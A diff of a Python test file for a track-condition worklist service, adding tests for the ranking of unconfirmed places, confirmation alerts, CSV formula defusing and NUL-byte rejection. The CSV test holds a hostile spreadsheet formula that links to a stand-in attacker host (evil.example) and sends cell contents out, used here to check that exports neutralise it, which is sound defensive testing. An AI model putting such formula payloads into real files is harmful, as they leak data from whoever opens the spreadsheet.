@@ -58,8 +58,8 @@ def test_the_planted_step_is_one_listed_place_with_its_history(places_fleet):
 def test_the_list_is_ranked_and_filtered(places_fleet):
     c = places_fleet.clients["viewer"]
     items = _listed(c, include_closed=True)["items"]
-    keys = [(-TIER_NAMES.index(p["tier"]), p["days_to_next_tier"] is None, p["days_to_next_tier"] or 0.0,
-             -p["severity"]) for p in items]
+    keys = [(-TIER_NAMES.index(p["tier"]), not p["confirmed"], p["days_to_next_tier"] is None,
+             p["days_to_next_tier"] or 0.0, -p["severity"]) for p in items]
     assert keys == sorted(keys)
     for tier in {p["tier"] for p in items}:
         got = _listed(c, tier=tier, include_closed=True)["items"]
@@ -173,6 +173,49 @@ def test_another_method_version_does_not_read_as_a_change_of_the_track(places_fl
                   .values(condition_index=SegmentCondition.condition_index - 0.15))
 
 
+def test_a_new_place_is_listed_from_the_run_that_finds_it_unconfirmed_and_alerted_when_confirmed(places_fleet):
+    """A −22 % change over 20 m in the next run: on the list at once as new (``confirmed: false``, after the
+    confirmed places of its tier, in the CSV too), no alert; the run after it that finds it again confirms it
+    (``new`` event, alerted) — in a transaction rolled back."""
+    from app.db.models import ConditionLine, Place
+    from app.places.worklist import PlaceQuery, _page, labelled, places_csv
+
+    db, runs = places_fleet.db, places_fleet.run_ids
+    nxt = runs[APPLIED:APPLIED + 2]
+    lo, hi = 12_000 // 10, 12_020 // 10  # a healthy stretch
+
+    def there(items: list[dict]) -> list[dict]:
+        return [p for p in items if p["km_from"] * 1000 < hi * 10 + 10 and lo * 10 - 10 < p["km_to"] * 1000]
+
+    with db.read() as s:  # rolled back at the end: nothing stays
+        s.execute(update(SegmentCondition).where(SegmentCondition.run_id.in_(nxt), SegmentCondition.seg_m == 10,
+                                                 SegmentCondition.seg >= lo, SegmentCondition.seg < hi)
+                  .values(condition_index=SegmentCondition.condition_index - 0.25))
+        line = s.scalar(select(ConditionLine).where(ConditionLine.line_id == LINE))
+        version = s.scalar(select(PlaceRun.method_version).where(PlaceRun.run_id == runs[APPLIED - 1]))
+        up = apply_run(s, nxt[0], line, version)
+        assert up.applied, up.reason
+        lines, rows, total = _page(s, PlaceQuery(line_id=LINE, limit=1000))
+        items = labelled(s, lines, rows)
+        (new,) = there(items)
+        assert new["confirmed"] is False and not new["listed"] and new["runs_confirming"] == 1
+        assert new["direction"] == "soft" and new["tier"] != "watch" and new["last_run_id"] == nxt[0]
+        assert all(p["confirmed"] for p in items if p["id"] != new["id"])
+        tier = [p for p in items if p["tier"] == new["tier"]]
+        assert tier[-1]["id"] == new["id"], "a new place comes after the confirmed places of its tier"
+        assert not s.scalars(select(PlaceEventRow).where(PlaceEventRow.place_id == new["id"])).all()
+        up = apply_run(s, nxt[1], line, version)
+        assert up.applied, up.reason
+        got = s.get(Place, new["id"])
+        assert got.listed and got.runs_confirming == 2
+        events = s.scalars(select(PlaceEventRow).where(PlaceEventRow.place_id == new["id"])).all()
+        assert [(e.kind, e.alerted, e.run_id) for e in events] == [("new", True, nxt[1])]
+    # and nothing of it stays: the list as the service answers it has no place there, the CSV the column
+    assert there(_listed(places_fleet.clients["viewer"])["items"]) == []
+    rows = list(csv.DictReader(io.StringIO(places_csv(db, PlaceQuery(line_id=LINE, limit=1000))[0])))
+    assert rows and {r["confirmed"] for r in rows} == {"True"}
+
+
 def test_alerts_only_for_new_places_and_tier_changes_and_a_fixed_place_back(places_fleet):
     """The remaining runs with a webhook: one delivery per run with a new place, a tier change or a
     place back, carrying the place's id and status; a place marked fixed that the next runs find again
@@ -261,3 +304,34 @@ def test_the_event_feed_lists_places_with_id_and_status(places_fleet):
     every = c.get(f"{URL}/events", params={"since": 0, "limit": 1000, "every": True}).json()["items"]
     assert len(every) >= len(first["items"])
     assert c.get(f"{URL}/events", params={"since": -1}).json()["field"] == "since"
+
+
+def test_csv_defuses_formulas_and_says_what_a_page_leaves_out(places_fleet):
+    """issue 32 finding 4: an engineer's comment beginning with ``=`` is written as text; a page cut
+    at ``limit`` says how many places the filters match and how many it leaves out."""
+    c, e = places_fleet.clients["viewer"], places_fleet.clients["engineer"]
+    items = _listed(c)["items"]
+    pid = items[0]["id"]
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    r = e.patch(f"{URL}/{pid}/status", json={"status": "acknowledged", "comment": hostile})
+    assert r.status_code == 200, r.text
+    r = c.get(f"{URL}.csv", params={"line_id": LINE, "limit": 1000})
+    rows = {int(x["id"]): x for x in csv.DictReader(io.StringIO(r.text))}
+    assert rows[pid]["status_comment"] == "'" + hostile
+    assert r.headers["x-total-count"] == str(len(items)) and r.headers["x-omitted-count"] == "0"
+    assert any(float(x["peak"]) < 0 for x in rows.values())  # numbers stay numbers
+    cut = c.get(f"{URL}.csv", params={"line_id": LINE, "limit": 1})
+    assert len(list(csv.DictReader(io.StringIO(cut.text)))) == 1
+    assert cut.headers["x-total-count"] == str(len(items)) and cut.headers["x-omitted-count"] == str(len(items) - 1)
+
+
+def test_nul_in_a_body_is_refused_alike_on_both_backends(places_fleet):
+    """issue 32 finding 5: NUL in a status comment is 422 naming ``comment`` (PostgreSQL answered 500,
+    SQLite stored it); nothing is written."""
+    c, e = places_fleet.clients["viewer"], places_fleet.clients["engineer"]
+    p = _listed(c)["items"][0]
+    before = c.get(f"{URL}/{p['id']}").json()["status_history"]
+    r = e.patch(f"{URL}/{p['id']}/status", json={"status": "planned", "comment": "tamping\x00 week 3"})
+    assert r.status_code == 422 and r.json()["field"] == "comment", r.text
+    assert "NUL" in r.json()["detail"]
+    assert c.get(f"{URL}/{p['id']}").json()["status_history"] == before
